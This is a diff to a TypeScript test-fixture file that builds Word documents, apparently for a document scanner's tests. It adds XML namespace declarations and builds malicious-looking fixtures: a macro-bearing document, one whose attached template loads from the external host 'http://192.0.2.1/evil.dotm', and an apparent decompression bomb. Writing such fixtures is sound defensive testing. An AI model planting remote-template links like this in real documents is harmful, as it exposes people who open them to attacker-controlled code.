@@ -44,11 +44,25 @@ export function packed(entries: Record<string, string | Buffer>): Buffer {
 const types =
   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
 
+/** Declarations of the namespaces that the parts of a Word document use. */
+export const namespaces = [
+  ['w', 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'],
+  ['r', 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'],
+  ['mc', 'http://schemas.openxmlformats.org/markup-compatibility/2006'],
+  ['wps', 'http://schemas.microsoft.com/office/word/2010/wordprocessingShape'],
+  ['a', 'http://schemas.openxmlformats.org/drawingml/2006/main'],
+  ['m', 'http://schemas.openxmlformats.org/officeDocument/2006/math'],
+  ['v', 'urn:schemas-microsoft-com:vml'],
+  ['o', 'urn:schemas-microsoft-com:office:office'],
+]
+  .map(([prefix, uri]) => `xmlns:${prefix}="${uri}"`)
+  .join(' ');
+
 /** A Word document with this markup in its body. */
 export function docxWith(body: string, more: Record<string, string | Buffer> = {}): Buffer {
   return packed({
     '[Content_Types].xml': types,
-    'word/document.xml': `<?xml version="1.0"?><w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`,
+    'word/document.xml': `<?xml version="1.0"?><w:document ${namespaces}><w:body>${body}</w:body></w:document>`,
     ...more,
   });
 }
@@ -63,7 +77,7 @@ export const macroDocx = docxWith(`<w:p>${run('正文')}</w:p>`, { 'word/vbaProj
 
 export const linkedDocx = docxWith(`<w:p>${run('正文')}</w:p>`, {
   'word/_rels/document.xml.rels':
-    '<Relationships><Relationship Id="r1" Type="attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>',
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>',
 });
 
 /** A few hundred kilobytes that expand beyond the limits. */
